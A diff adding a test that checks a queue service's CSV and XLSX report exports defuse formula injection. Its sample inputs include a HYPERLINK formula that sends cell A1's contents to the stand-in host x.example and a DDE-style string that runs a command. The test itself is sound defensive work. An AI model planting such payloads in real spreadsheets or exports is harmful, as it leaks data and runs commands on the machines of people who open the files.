@@ -143,3 +143,30 @@ def test_a_bad_target_wait_is_a_400_and_nothing_is_stored(rapp, rdemo, value):
     assert r.status_code == 400, (value, r.status_code)
     page = c.get("/manager/BKS/figures/targets").get_data(as_text=True)
     assert f'value="{value}"' not in page
+
+
+def test_text_written_as_a_formula_is_not_a_formula_in_the_exports(rapp, rdemo):
+    """CSV/formula injection: text of any section's export (other features' tables included) that starts with
+    = + - @ is written with a leading apostrophe in the CSV and as a text cell in the XLSX."""
+    import csv
+    import io
+
+    import jinja2
+    from openpyxl import load_workbook
+
+    from queue_service.hooks import ReportSection, register_report_section
+
+    evil = ['=HYPERLINK("http://x.example/?"&A1,"klik")', '@SUM(1+1)*cmd|"/c calc"!A1', "+1+1", "-2+3"]
+    register_report_section(rapp, ReportSection(
+        key="uji", title="Bagian uji", order=50, build=lambda session, ctx: None, template="reports/_uji.html",
+        export=lambda data: [("uji", ["teks"], [[v] for v in evil] + [["biasa"]])],
+        places=frozenset({"figures"})))
+    rapp.jinja_loader = jinja2.ChoiceLoader([rapp.jinja_loader, jinja2.DictLoader({"reports/_uji.html": ""})])
+    c = login(rapp.test_client(), rdemo, "manajer")
+    rows = list(csv.reader(io.StringIO(c.get("/manager/BKS/figures.csv").data.decode("utf-8-sig"))))
+    i = rows.index(["# uji"])
+    assert rows[i + 2:i + 7] == [["'" + v] for v in evil] + [["biasa"]]
+    book = load_workbook(io.BytesIO(c.get("/manager/BKS/figures.xlsx").data))
+    cells = [cell for row in book["uji"].iter_rows(min_row=2) for cell in row]
+    assert [cell.value for cell in cells] == ["'" + v for v in evil] + ["biasa"]
+    assert all(cell.data_type == "s" for cell in cells)
